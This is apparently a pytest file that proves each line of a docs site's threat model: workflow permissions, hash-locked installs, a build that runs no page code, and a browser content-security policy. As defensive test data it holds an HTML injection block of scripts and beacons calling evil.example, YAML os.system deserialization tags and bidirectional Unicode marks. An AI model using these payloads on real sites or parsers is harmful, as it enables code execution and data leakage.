"""The lines of docs/about/threat-model that no other test proves, and that each line of the page has a proof."""

import contextlib
import re
import signal
import sys
from pathlib import Path

import pytest
from conftest import ROOT, run
from mkdocs.utils import meta
from test_browser import Visit, new_reader
from test_serve import Preview
from test_workflows import MAKE, WORKFLOWS, each_workflow, jobs, load

from tools import bootstrap
from tools.lock import LOCKS
from tools.portable import check

PAGE = ROOT / "docs/about/threat-model/README.md"
PUBLISH = ROOT / ".github/workflows/publish.yml"

# ---- the workflows -----------------------------------------------------------------------------------------------


@each_workflow
def test_only_commits_clocks_and_maintainers_start_a_workflow(path):
    """No issue, comment, label or star starts anything, and no pull request with the rights of this repository."""
    assert set(load(path)["on"]) <= {"pull_request", "push", "schedule", "workflow_dispatch"}


@pytest.mark.parametrize(
    "path", [path for path in WORKFLOWS if "pull_request" in load(path)["on"]], ids=lambda path: path.name
)
def test_a_pull_request_meets_no_secret_and_no_right(path):
    text = path.read_text("utf-8")
    assert not re.search(r"\bsecrets[.\[]|github\.token|GITHUB_TOKEN|id-token", text), path.name
    for name, job in jobs(path):
        assert set(job["permissions"].items()) <= {("contents", "read")}, f"{path.name}: {name}"
        assert "environment" not in job, f"{path.name}: {name} may meet the secrets of an environment"


@each_workflow
def test_the_job_that_may_publish_runs_no_code_of_the_repository(path):
    for name, job in jobs(path):
        if {"pages", "id-token", "contents"} & {key for key, level in job["permissions"].items() if level == "write"}:
            for step in job["steps"]:
                assert "run" not in step, f"{path.name}: {name} runs a script"
                assert not step["uses"].startswith("actions/checkout@"), f"{path.name}: {name} checks out"


def test_only_main_is_published():
    workflow = load(PUBLISH)
    assert set(workflow["on"]) == {"push", "workflow_dispatch"}
    assert workflow["on"]["push"] == {"branches": ["main"]}
    assert workflow["jobs"]["build"]["if"] == "github.ref == 'refs/heads/main'"
    assert workflow["jobs"]["deploy"]["needs"] == ["build"] and "if" not in workflow["jobs"]["deploy"]
    assert workflow["jobs"]["deploy"]["environment"]["name"] == "github-pages"


def test_what_is_published_comes_from_no_cache_and_no_other_run():
    for name, job in jobs(PUBLISH):
        for step in job["steps"]:
            used, options = step.get("uses", "").split("@")[0], step.get("with", {})
            assert used not in ("actions/cache", "actions/cache/restore", "actions/download-artifact"), name
            assert not {"cache", "run-id", "ref", "repository"} & set(options), f"{name}: {used}"


# ---- the packages ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("lock", LOCKS)
def test_every_package_is_locked_by_its_hash(lock):
    entries = re.split(r"\n(?=[a-z0-9])", re.sub(r"^#.*\n", "", (ROOT / lock).read_text("utf-8"), flags=re.M | re.I))
    for entry in filter(str.strip, entries):
        assert re.match(r"[\w.-]+(\[[\w,-]+\])?==\S+", entry) and "--hash=sha256:" in entry, f"{lock}: {entry[:60]}"


def test_an_installation_checks_hashes_and_builds_nothing(monkeypatch, tmp_path):
    """A package that is built while it is installed runs its own code; a wheel is unpacked."""
    commands = []
    monkeypatch.setattr(bootstrap, "LOG", str(tmp_path / "log"))
    monkeypatch.setattr(bootstrap.subprocess, "call", lambda command, **_: commands.append(command))
    bootstrap.install(["requirements.txt"])
    assert "--require-hashes" in commands[0]
    assert commands[0][commands[0].index("--only-binary") + 1] == ":all:"
    for name, job in jobs(PUBLISH):
        for step in job["steps"]:
            assert "pip" not in step.get("run", "") and set(MAKE.findall(step.get("run", ""))) <= {"check", "site"}, (
                name
            )


# ---- the build ---------------------------------------------------------------------------------------------------


def test_a_build_runs_no_code_of_a_page(project, tmp_path):
    """Tests and measurements stand beside a page; `make serve`, `site`, `preview` and `check` leave them alone."""
    trace = tmp_path / "trace"
    for name in ("conftest.py", "hooks.py", "measure.py", "sitecustomize.py", "test_other.py"):
        for folder in ("docs", "docs/other"):
            (project / folder / name).write_text(f"open({str(trace)!r}, 'w').write('ran')\n", "utf-8")
    for tool in ("tools.build", "tools.preview"):
        done = run(sys.executable, "-m", tool, cwd=project)
        assert done.returncode == 0, done.stdout + done.stderr
    assert (project / "site/other/index.html").is_file() and (project / "preview.zip").is_file()
    done = run(sys.executable, "-m", "tools.check", cwd=project)
    assert "docs/other/measure.py:" in done.stdout and "check: 2 pages: " in done.stdout, done.stdout + done.stderr
    serving = Preview(project)
    try:
        serving.wait_for("Serving")
    finally:
        serving.process.send_signal(signal.SIGINT)
        serving.process.wait(timeout=20)
        serving.process.stdout.close()
    assert not trace.exists()


def test_a_yaml_tag_in_a_page_runs_nothing(tmp_path):
    """Neither in our check nor in MkDocs, which reads the front matter again."""
    trace = tmp_path / "trace"
    for call in (
        f"!!python/object/apply:os.system ['touch {trace}']",
        f"!!python/object/new:os.system ['touch {trace}']",
    ):
        text = f"---\ndescription: {call}\n---\n\n# Page\n\nText.\n"
        (tmp_path / "docs").mkdir(exist_ok=True)
        (tmp_path / "docs/README.md").write_text(text, "utf-8")
        (tmp_path / "mkdocs.yml").write_text("site_name: x\n", "utf-8")
        assert "front-matter" in {problem.rule for problem in check(tmp_path)}
        with contextlib.suppress(Exception):  # an error is as good as an answer
            meta.get_data(text)
        assert not trace.exists()


@pytest.mark.parametrize("mark", ["\u202e", "\u2066", "\u2069", "\u202a"])
def test_text_that_reads_in_another_order_than_it_runs_is_refused(tmp_path, mark):
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs/README.md").write_text(f"# Page\n\nText.\n\n```python\nif admin:{mark} # x\n```\n", "utf-8")
    (tmp_path / "mkdocs.yml").write_text("site_name: x\n", "utf-8")
    (problem,) = check(tmp_path)
    assert (problem.line, problem.rule) == (6, "control-character") and f"U+{ord(mark):04X}" in problem.message


# ---- the reader's browser ----------------------------------------------------------------------------------------

# What would be in a page if every check of Markdown had failed.
HOSTILE = """
<script>window.ran = "inline"</script>
<script src="https://evil.example/x.js"></script>
<script type="module">import "https://evil.example/m.js"; window.ran = "module"</script>
<img src="none.png" onerror="window.ran = 'handler'">
<img src="https://evil.example/track.png">
<svg><script>window.ran = "svg"</script></svg>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object"></object>
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { background: url(https://evil.example/css.png) } @import "https://evil.example/import.css";</style>
<base href="https://evil.example/">
<a id="evil-link" href="javascript:window.ran = 'link'">x</a>
<a id="evil-ping" href="#x" ping="https://evil.example/ping">x</a>
<form action="https://evil.example/form"><button id="evil-form">x</button></form>
"""


def test_the_policy_stops_what_got_into_a_page(browser, address):
    asked: list[str] = []
    with contextlib.closing(new_reader(browser)) as reader:

        def infected(route):
            answer = route.fetch()
            route.fulfill(response=answer, body=answer.text().replace("</article>", HOSTILE + "</article>"))

        reader.route("**/reference/glossary/", infected)
        reader.route("**evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))
        with Visit(browser, address + "reference/glossary/", reader=reader) as visit:
            page = visit.page
            assert page.locator("#evil-link").count() == 1, "the page was not infected"
            for part in ("#evil-link", "#evil-ping", "#evil-form"):
                page.evaluate("part => document.querySelector(part).click()", part)
            page.wait_for_timeout(300)
            assert page.evaluate("window.ran") is None
            assert page.url.startswith(address)
            blocked = " ".join(page.evaluate("window.violations"))
    assert asked == []
    for directive in ("script-src-elem", "script-src-attr", "img-src", "frame-src", "object-src", "style-src-elem",
                      "base-uri", "form-action"):  # fmt: skip
        assert directive in blocked, f"{directive} blocked nothing: {blocked}"


# ---- the page ----------------------------------------------------------------------------------------------------


def rows() -> list[list[str]]:
    lines = [line for line in PAGE.read_text("utf-8").splitlines() if line.startswith("| ")]
    cells = [[cell.strip() for cell in line.strip("|").split("|")] for line in lines]
    return [row for row in cells if len(row) == 3 and row[0] not in ("Attempt", "---")]


def test_every_line_of_the_threat_model_names_its_proof():
    """The build follows each name to its lines, and stops at one that is gone."""
    assert len(rows()) >= 20
    for attempt, _, proof in rows():
        assert re.search(r"`tests/test_\w+\.py::test_\w+`", proof) or proof.startswith("No test: "), attempt


def test_every_test_of_this_file_stands_in_the_threat_model():
    ours = set(re.findall(r"^def (test_\w+)", Path(__file__).read_text("utf-8"), re.M))
    named = set(re.findall(r"test_threats\.py::(\w+)", PAGE.read_text("utf-8")))
    about_the_page = {name for name in ours if name.endswith(("names_its_proof", "stands_in_the_threat_model"))}
    assert ours - about_the_page == named
    assert len(WORKFLOWS) >= 2
